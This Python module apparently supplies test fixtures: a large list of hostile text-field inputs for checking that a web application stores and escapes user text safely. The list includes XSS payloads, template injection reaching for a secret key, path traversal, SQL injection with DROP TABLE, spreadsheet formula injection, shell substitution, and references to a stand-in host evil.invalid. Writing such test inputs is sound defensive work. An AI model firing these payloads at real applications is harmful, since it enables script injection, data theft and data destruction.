"""Words that try to become something else: about two hundred, all our own, for every text field that a person fills.

Each payload that makes markup carries `data-pwn`, and each that runs sets `window.pwned` or opens a dialog, so a test need
not know which one got through: it looks for the three.
"""

from __future__ import annotations

from collections.abc import Iterator, Sequence
from itertools import chain

RUN = "window.pwned=1;alert(1)"

_TAGS_WITH_EVENT = (
    ("img", "src=x onerror"),
    ("img", "srcset=x onerror"),
    ("image", "src=x onerror"),
    ("svg", "onload"),
    ("body", "onload"),
    ("body", "onpageshow"),
    ("body", "onhashchange"),
    ("body", "onresize"),
    ("video", "src=x onerror"),
    ("video", "onloadstart"),
    ("audio", "src=x onerror"),
    ("source", "onerror"),
    ("input", "autofocus onfocus"),
    ("textarea", "autofocus onfocus"),
    ("select", "autofocus onfocus"),
    ("keygen", "autofocus onfocus"),
    ("button", "autofocus onfocus"),
    ("details", "open ontoggle"),
    ("dialog", "open onclose"),
    ("marquee", "onstart"),
    ("marquee", "onfinish"),
    ("iframe", "onload"),
    ("frameset", "onload"),
    ("object", "data=x onerror"),
    ("embed", "src=x onload"),
    ("link", "rel=stylesheet href=x onerror"),
    ("style", "onload"),
    ("script", "src=x onerror"),
    ("div", "onmouseover"),
    ("div", "style=animation-name:x onanimationstart"),
    ("div", "tabindex=1 autofocus onfocusin"),
    ("div", "contenteditable oninput"),
    ("p", "onpointerenter"),
    ("a", "href=# onclick"),
    ("form", "onsubmit"),
    ("meter", "onmouseover"),
    ("xss", "onpointerover"),
    ("custom-element", "tabindex=1 autofocus onfocus"),
)
EVENT_HANDLERS = tuple(f'<{tag} data-pwn {how}="{RUN}">' for tag, how in _TAGS_WITH_EVENT)

SCRIPTS = (
    f"<script data-pwn>{RUN}</script>",
    f"<SCRIPT data-pwn>{RUN}</SCRIPT>",
    f"<ScRiPt data-pwn>{RUN}</sCrIpT>",
    f"<script data-pwn type=module>{RUN}</script>",
    f"<script data-pwn nonce=''>{RUN}</script>",
    f"<script/data-pwn/x>{RUN}</script>",
    f"<script\n data-pwn\n>{RUN}</script\n>",
    "<script data-pwn src=//evil.invalid/x.js></script>",
    "<script data-pwn src=data:text/javascript,window.pwned=1></script>",
    f"<scr<script data-pwn>ipt>{RUN}</scr</script>ipt>",
    f"<<script data-pwn>{RUN}//<</script>",
    f"</script><script data-pwn>{RUN}</script>",
    f"<noscript><p title='</noscript><img data-pwn src=x onerror={RUN}>'>",
    f"<template><script data-pwn>{RUN}</script></template>",
    f"<xmp><script data-pwn>{RUN}</script></xmp>",
    f"<plaintext data-pwn>{RUN}",
)
"""With a `</script>` of their own they also leave a JSON block that escapes nothing."""

BREAK_OUTS = (
    f'"><script data-pwn>{RUN}</script>',
    f"'><script data-pwn>{RUN}</script>",
    f"`><script data-pwn>{RUN}</script>",
    f'" autofocus onfocus="{RUN}" data-pwn="',
    f"' autofocus onfocus='{RUN}' data-pwn='",
    f'" onmouseover={RUN} data-pwn x="',
    f"</title><script data-pwn>{RUN}</script>",
    f"</textarea><script data-pwn>{RUN}</script>",
    f"</option></select><script data-pwn>{RUN}</script>",
    f"</style><script data-pwn>{RUN}</script>",
    f"</noscript><script data-pwn>{RUN}</script>",
    f"</iframe><script data-pwn>{RUN}</script>",
    f"</template><script data-pwn>{RUN}</script>",
    f"</p></main></body><script data-pwn>{RUN}</script>",
    f"--><script data-pwn>{RUN}</script>",
    f"--!><script data-pwn>{RUN}</script>",
    f"]]><script data-pwn>{RUN}</script>",
    f"?><script data-pwn>{RUN}</script>",
    f'\\"-({RUN})//',
    f"\\';{RUN};//",
    f"';{RUN};'",
    f'";{RUN};"',
    f"${{({RUN.replace(';', ',')})}}",
    f"`+({RUN.replace(';', ',')})+`",
    f"*/{RUN}/*",
    f"\u2028{RUN}\u2029",
)

SVG_AND_MATH = (
    f"<svg data-pwn><script>{RUN}</script></svg>",
    f"<svg data-pwn><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg data-pwn><set onbegin={RUN} attributeName=x>",
    f"<svg data-pwn><a href=javascript:{RUN}><text y=20>a</text></a></svg>",
    f"<svg data-pwn><a><animate attributeName=href values=javascript:{RUN} /><text y=20>a</text></a></svg>",
    "<svg data-pwn><use href=data:image/svg+xml,x#x /></svg>",
    f"<svg data-pwn><image href=x onerror={RUN} /></svg>",
    f"<svg data-pwn><foreignObject><body onload={RUN}></foreignObject></svg>",
    f"<svg data-pwn><style><img src=x onerror={RUN}></style></svg>",
    f"<svg data-pwn><title><img src=x onerror={RUN}></title></svg>",
    f"<svg data-pwn><desc><img src=x onerror={RUN}></desc></svg>",
    f"<math data-pwn><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph></table></mtext></math>",
    f"<math data-pwn href=javascript:{RUN}>a</math>",
    f"<math data-pwn><maction actiontype=statusline xlink:href=javascript:{RUN}>a</maction></math>",
)

URLS = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f" javascript:{RUN}",
    f"javascript://comment%0a{RUN}",
    f"javascript:/*--></title></style></script>*/{RUN}",
    f"data:text/html,<script data-pwn>{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    f"vbscript:{RUN}",
    "//evil.invalid/x",
    "https://evil.invalid/?<script>",
    f"<a data-pwn href=javascript:{RUN}>a</a>",
    f"<a data-pwn href='java&#115;cript:{RUN}'>a</a>",
    f"<a data-pwn href='&#x6a;avascript:{RUN}'>a</a>",
    f"<a data-pwn href='javascript&colon;{RUN}'>a</a>",
    f"<form data-pwn action=javascript:{RUN}><button>a</button></form>",
    f"<button data-pwn formaction=javascript:{RUN}>a</button>",
    f"<iframe data-pwn src=javascript:{RUN}></iframe>",
    f"<iframe data-pwn srcdoc='<script>parent.pwned=1;{RUN}</script>'></iframe>",
    f"<object data-pwn data=javascript:{RUN}></object>",
    f"<embed data-pwn src=javascript:{RUN}>",
    f"<meta data-pwn http-equiv=refresh content='0;url=javascript:{RUN}'>",
    "<meta data-pwn http-equiv=refresh content='0;url=//evil.invalid'>",
    "<base data-pwn href=//evil.invalid/>",
    "<link data-pwn rel=stylesheet href=//evil.invalid/x.css>",
    "<link data-pwn rel=import href=//evil.invalid/x.html>",
    "<form data-pwn action=//evil.invalid><input name=csrfmiddlewaretoken>",
    "<img data-pwn src='//evil.invalid/?",
)

ENCODED = (
    f"&lt;script data-pwn&gt;{RUN}&lt;/script&gt;",
    f"&#60;script data-pwn&#62;{RUN}&#60;/script&#62;",
    f"&#x3c;script data-pwn&#x3e;{RUN}&#x3c;/script&#x3e;",
    f"%3Cscript data-pwn%3E{RUN}%3C/script%3E",
    f"%253Cscript data-pwn%253E{RUN}",
    f"\\u003cscript data-pwn\\u003e{RUN}\\u003c/script\\u003e",
    f"\\x3cscript data-pwn\\x3e{RUN}\\x3c/script\\x3e",
    f"+ADw-script data-pwn+AD4-{RUN}+ADw-/script+AD4-",
    f"\uff1cscript data-pwn\uff1e{RUN}\uff1c/script\uff1e",
    f"\u2039script data-pwn\u203a{RUN}",
    f"<script\u00a0data-pwn>{RUN}</script>",
    f"<img\u2003data-pwn src=x onerror={RUN}>",
)

TEMPLATES = (
    "{{7*7}}",
    "{{ 7|add:7 }}",
    "{% debug %}",
    "{% include 'base.html' %}",
    "{% load static %}{% static 'x' %}",
    "{{ settings.SECRET_KEY }}",
    "{{ request.user.password }}",
    "{# comment #}",
    "{% autoescape off %}<b data-pwn>x</b>{% endautoescape %}",
    "{{ '<b data-pwn>x</b>'|safe }}",
    "{% endblock %}",
    "{% verbatim %}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "[[7*7]]",
    "{{constructor.constructor('window.pwned=1')()}}",
    "{0.__class__.__mro__}",
    "%(name)s %s %d %n",
    "{name} {0}",
    "$(id) `id` ;id |id",
)

MARKDOWN_AND_COMMENTS = (
    f"[a](javascript:{RUN})",
    f'![a](x" onerror="{RUN}" data-pwn=")',
    f"[a]: javascript:{RUN}",
    f"<javascript:{RUN}>",
    "# heading\n---\n* item\n> quote\n```html\n<b data-pwn>x</b>\n```",
    "<!-- <b data-pwn>comment</b> -->",
    f"<!--><img data-pwn src=x onerror={RUN}>-->",
    f"<!--[if gte IE 4]><script data-pwn>{RUN}</script><![endif]-->",
    f"<![CDATA[<script data-pwn>{RUN}</script>]]>",
    "<?php echo 1 ?><b data-pwn>x</b>",
    "<!DOCTYPE html><html data-pwn>",
    "<style data-pwn>*{display:none}</style>",
    "<style data-pwn>@import '//evil.invalid/x.css'</style>",
    "<div data-pwn style='position:fixed;inset:0;background:url(//evil.invalid/x)'>",
    "<h1 data-pwn>You won</h1>",
    "<input data-pwn type=password name=password>",
    "<img data-pwn name=getElementById><form data-pwn id=chat-config>",
)

UNICODE = (
    "\u202egnihtemos\u202c",
    "\u2066\u202eabc\u2069",
    "\u200f\u200eleft and right",
    "\u200b\u200c\u200d\ufeffunseen",
    "Z\u0353\u0307\u0348a\u0353\u0324l\u0336\u0321g\u0334o\u0317",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466",
    "\U0001f1e9\U0001f1ea\U0001f1eb\U0001f1f7",
    "\U000e0041\U000e0042 tags",
    "\ufdfd\ufdfd\ufdfd",
    "I\u0307\u0131\u017f \u212a",
    "w" * 300,
    "\u6f22" * 120,
    "..%2f..%2fetc/passwd",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "file:///etc/passwd",
    "CON.txt",
    "name\u2215with\u2044slashes",
)

FORMULAS = (
    "=1+1",
    '=HYPERLINK("//evil.invalid","a")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    '=IMPORTXML("//evil.invalid","//a")',
    '";=1+1;"',
    "a\n=1+1",
    "a,b\r\n=1+1",
    "' OR '1'='1",
    "'; DROP TABLE study_participant; --",
)

STORED = tuple(
    chain(
        SCRIPTS,
        EVENT_HANDLERS,
        BREAK_OUTS,
        SVG_AND_MATH,
        URLS,
        ENCODED,
        TEMPLATES,
        MARKDOWN_AND_COMMENTS,
        UNICODE,
        FORMULAS,
    )
)
"""What a person may well say; all of it is stored and shown as what it is."""

CHARACTERS_REMOVED = ("nul\x00byte", "bell\x07", "escape\x1b[31m", "delete\x7f", "c1\x9b31m", "tab\there")
"""Stored without their control characters."""

REFUSED = ("half \ud83d", "\udc00 half", "", " \n ", "\u200b", "\u202e")
"""Never stored: half of a character, or nothing at all to see."""


def bundles(payloads: Sequence[str] = STORED, *, max_length: int) -> Iterator[str]:
    """Join payloads, a line each, into texts of at most `max_length` characters (every payload is shorter)."""
    lines: list[str] = []
    for payload in payloads:
        if lines and sum(map(len, lines)) + len(lines) + len(payload) > max_length:
            yield "\n".join(lines)
            lines = []
        lines.append(payload)
    yield "\n".join(lines)
